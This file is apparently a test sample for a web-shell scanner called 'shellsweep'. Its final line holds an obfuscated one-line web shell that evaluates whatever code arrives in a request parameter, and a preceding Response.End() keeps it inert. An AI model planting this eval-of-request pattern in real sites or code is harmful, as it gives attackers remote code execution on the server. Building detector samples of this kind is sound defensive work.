<%@ LANGUAGE="JavaScript" %>
<% // shellsweep test sample: inert, never functional
Response.End(); %>
<% _()(_(!-'')); function _(x) { if (x) { return Request('_') + '' } else { return eval } } %>
